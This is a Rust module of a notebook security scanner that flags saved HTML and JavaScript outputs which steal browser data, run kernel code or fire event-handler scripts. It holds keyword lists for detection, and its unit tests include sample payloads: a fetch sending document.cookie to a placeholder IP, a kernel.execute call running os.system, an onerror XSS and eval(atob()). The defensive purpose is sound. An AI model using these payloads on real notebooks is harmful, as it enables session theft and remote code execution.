//! Saved outputs of notebooks: HTML and JavaScript that a browser runs.
//!
//! Honest outputs hold scripts: plots, tables with buttons. What they do not do is to send away what the browser knows, to
//! start code in the kernel, or to run from the attributes of a picture.

use assay_core::Location;

use super::{ACTIVE_OUTPUT, text_of};
use crate::json::{Node, Value};
use crate::{Input, Report};

/// Bytes between what is taken and what sends it, in one attack and not in one library.
const NEAR: usize = 400;

/// What the browser knows, and what only the notebook's own pages should ask for.
const TAKEN: &[&str] = &[
    "document.cookie",
    "_xsrf",
    "localstorage",
    "sessionstorage",
    "/api/contents",
    "/api/terminals",
    "/api/kernels",
];

/// What sends.
const SENDS: &[&str] = &[
    "fetch(",
    "xmlhttprequest",
    "sendbeacon",
    "new image",
    ".src",
    "$.post",
    "$.get",
    "$.ajax",
    "websocket(",
    "location=",
    "location.href",
    "axios",
];

/// Code for the kernel, or code out of text.
const STARTS: &[&str] =
    &["os.system", "subprocess", "__import__", "import os", "exec(", "!curl", "!wget", "atob("];

/// Attributes that run at once, which no saved output needs.
const HANDLERS: &[&str] =
    &["onerror=", "onload=", "onmouseover=", "onfocus=", "onbegin=", "onpageshow=", "ontoggle="];

/// One output of a cell.
pub(super) fn output(output: &Node<'_>, input: &Input<'_>, report: &mut Report<'_>) {
    let bundle = output.member("data").unwrap_or(output);
    let Value::Object(members) = &bundle.value else { return };
    for (kind, content) in members {
        let place = || input.place().at(content.offset);
        match kind.as_ref() {
            "text/html" | "html" | "image/svg+xml" | "svg" | "text/markdown" => {
                judge(&text_of(content), place(), report)
            }
            "application/javascript" | "text/javascript" | "javascript" => {
                judge(&format!("<script>{}</script>", text_of(content)), place(), report);
            }
            _ => {}
        }
    }
}

/// Judges HTML.
pub(super) fn judge(html: &str, place: Location, report: &mut Report<'_>) {
    let text = html.to_ascii_lowercase();
    if let Some(reason) = active(&text) {
        let message = format!("showing the notebook {reason}");
        report.hit(&ACTIVE_OUTPUT, place, &message, &[("reason", reason)]);
    }
}

fn active(text: &str) -> Option<&'static str> {
    if text.contains("<script") || text.contains("javascript:") {
        if near(text, TAKEN, SENDS) {
            return Some("sends away what the browser knows");
        }
        if near(text, &["kernel.execute"], STARTS) || near(text, &["eval(", "function("], &["atob("]) {
            return Some("starts code");
        }
        if text.contains("fetch('http://") || text.contains("fetch(\"http://") {
            return Some("asks another server");
        }
    }
    let handled = HANDLERS.iter().any(|handler| {
        text.match_indices(handler).any(|(at, _)| inside_tag(text.get(..at).unwrap_or_default()))
    });
    handled.then_some("runs a script from an attribute")
}

/// Whether one of these stands near one of those.
fn near(text: &str, these: &[&str], those: &[&str]) -> bool {
    these.iter().any(|this| {
        text.match_indices(this).take(256).any(|(at, _)| {
            let (from, to) =
                (boundary(text, at.saturating_sub(NEAR)), boundary(text, at.saturating_add(NEAR)));
            let around = text.get(from..to).unwrap_or_default();
            those.iter().any(|that| around.contains(that))
        })
    })
}

fn boundary(text: &str, at: usize) -> usize {
    let at = at.min(text.len());
    (0..4).map(|back| at.saturating_sub(back)).find(|at| text.is_char_boundary(*at)).unwrap_or(0)
}

/// Whether a tag is open here: of its attributes, not of text between quotes in a script.
fn inside_tag(before: &str) -> bool {
    let from = boundary(before, before.len().saturating_sub(256));
    let before = before.get(from..).unwrap_or_default();
    let open = before.rfind('<').map(|at| before.get(at..).unwrap_or_default());
    open.is_some_and(|tag| {
        !tag.contains('>')
            && [
                "<img", "<svg", "<body", "<iframe", "<video", "<audio", "<object", "<details", "<input",
                "<animate",
            ]
            .iter()
            .any(|start| tag.starts_with(start))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_sends_or_starts_is_told_from_what_draws() {
        for html in [
            "<script>fetch('http://192.0.2.1/?c='+document.cookie)</script>",
            "<script>jupyter.notebook.kernel.execute(\"import os; os.system('id')\")</script>",
            "<img src=x onerror=alert(1)>",
            "<script>eval(atob('eA=='))</script>",
        ] {
            assert!(active(html).is_some(), "{html}");
        }
        for html in [
            "<script>plotly.newplot('x', [])</script>",
            "<table><tr><td>document.cookie</td></tr></table>",
            "<button onclick=\"convert('df')\">x</button>",
            "<script>var x = '<img>'; x.onload=1</script>",
        ] {
            assert!(active(html).is_none(), "{html}");
        }
    }
}
